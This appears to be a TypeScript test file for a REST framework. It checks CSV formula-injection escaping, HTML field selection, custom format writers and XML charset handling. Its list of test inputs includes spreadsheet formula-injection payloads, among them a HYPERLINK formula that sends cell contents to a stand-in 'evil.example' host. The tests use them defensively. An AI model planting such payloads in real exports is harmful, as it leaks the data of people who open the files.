/** What a document in each media type may contain, whatever its values. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { reportCsv } from '../../examples/orders/print.ts'
import { t } from '../../src/contract/field.ts'
import { implement } from '../../src/contract/implement.ts'
import { anyone, resource, service } from '../../src/index.ts'
import { csvWriter } from '../../src/rest/formats/csv.ts'
import { startHosted } from '../host/hosted-service.ts'
import { json, order, startOrders } from './orders-over-rest.ts'

const formulas = [
  '=HYPERLINK("http://evil.example"&A1)',
  '+1+cmd',
  '+49 30 A1',
  '-',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\uff1dSUM(A1)',
  '\uff0d1',
]

test('A1.6 a text cell that a spreadsheet would take for a formula begins with an apostrophe; numbers do not', () => {
  const fields = {
    text: t.string(),
    many: t.list(t.string()),
    whole: t.int(),
    money: t.decimal(8, 2),
    real: t.double(),
    wait: t.duration(),
  }
  const rest = { many: ['=1'], whole: -3, money: '-2.50', real: -0.5, wait: '-P1D' }
  for (const text of [...formulas, 'a=1', ' =1', "'a", '+49 30 123456', '+491701234567', '-5']) {
    const document = { name: 'row', title: 'Row', fields, value: { text, ...rest }, links: [] }
    const [, cells] =
      /^[^\n]*\r\n(.*)\r\n$/s.exec(csvWriter.write(document, { base: '', namespace: '', only: undefined }, [])) ?? []
    const written = formulas.includes(text) ? `'${text}` : text
    const quoted = /[",\r\n]/.test(written) ? `"${written.replaceAll('"', '""')}"` : written
    assert.equal(cells, `${quoted},"[""=1""]",-3,-2.50,-0.5,-P1D`)
  }
})

test("A1.6 customers' notes are text in the CSV of orders, and so are names in that of a report", async () => {
  const shop = await startOrders()
  for (const note of formulas) await shop.as.alice('POST', '/api/v2/orders', json, { ...order, note })
  const { text } = await shop.as.clara('GET', '/api/v2/orders?fields=note&size=11', { accept: 'text/csv' })
  assert.doesNotMatch(text, /(?:^|,|\r\n)"?[=+@\t\n\uff1d\uff0d-]/)
  assert.equal(text.match(/'[=+@\t\r\n\uff1d\uff0d-]/g)?.length, formulas.length)
  const row = { product: 'p-1', name: '=1+1', currency: 'EUR', quantity: 1n, amount: '1.00' } as const
  const report = { from: '2026-01-01', to: '2026-01-02', kind: 'sales', rows: [row], totals: [] } as const
  assert.match(reportCsv(report), /p-1,'=1\+1,EUR,1,1\.00/)
})

test('A4.24 the requested members decide what a page shows of one item, and the columns of a list', async () => {
  const shop = await startOrders()
  const html = { accept: 'text/html' }
  const { text: one } = await shop.as.anyone('GET', '/api/v2/products/p-1?fields=name', html)
  assert.match(one, /<dt>Name<\/dt><dd>Oak lamp<\/dd>/)
  assert.doesNotMatch(one, /<dt>Price/)
  const { text: many } = await shop.as.anyone('GET', '/api/v2/products?fields=name', html)
  assert.deepEqual(
    [...many.matchAll(/data-label="(\w+)"/g)].map(([, name]) => name).filter(name => name !== 'Name'),
    [],
  )
  assert.match(many, /20 of 20/)
})

test('A1.6 a writer of the application replaces ours for its media type, and comes after the others', async () => {
  const notes = resource('notes', { fields: { id: t.id('n'), text: t.string() } }).rules({
    allow: { read: [anyone], create: [anyone] },
  })
  const formats = { 'application/xml': () => '<own/>', 'text/plain': () => 'own text' }
  const app = implement(service('notes', { namespace: 'urn:n', resources: [notes] }), { notes: { formats } })
  const { ask } = await startHosted({}, app)
  const made = await ask('POST', '/api/v1/notes', { 'content-type': 'application/json' }, '{"text":"a"}')
  const get = (accept: string) => ask('GET', String(made.fields['location']), { accept })
  assert.equal((await get('application/xml')).text, '<own/>')
  assert.equal((await get('text/plain')).text, 'own text')
  assert.match((await get('text/html')).text, /^<!doctype html>/i)
  assert.match(String((await get('*/*')).fields['content-type']), /^application\/hal\+json/)
})

test('RFC 7303 §3.2 XML is read by the charset of its media type, and one that its declaration contradicts is refused', async () => {
  const notes = resource('notes', { fields: { id: t.id('n'), text: t.string() } }).rules({
    allow: { read: [anyone], create: [anyone] },
  })
  const contract = service('notes', { namespace: 'urn:notes', resources: [notes] })
  const { ask } = await startHosted({}, implement(contract, {}))
  const text = (declared: string) =>
    `<?xml version="1.0"${declared && ` encoding="${declared}"`}?><note xmlns="urn:notes:v1"><text>é</text></note>`
  for (const [charset, declared, octets, status] of [
    ['utf-8', '', 'utf8', 201],
    ['utf-8', 'UTF-8', 'utf8', 201],
    ['utf-16le', '', 'utf16le', 201],
    ['utf-8', 'iso-8859-1', 'utf8', 400],
    ['', 'iso-8859-1', 'latin1', 201],
  ] as const) {
    const type = { 'content-type': `application/xml${charset && `; charset=${charset}`}` }
    const made = await ask('POST', '/api/notes', type, Buffer.from(text(declared), octets))
    assert.equal(made.status, status, `${charset} ${declared}: ${made.text}`)
    if (status === 201) assert.equal(JSON.parse(made.text).text, 'é')
  }
})
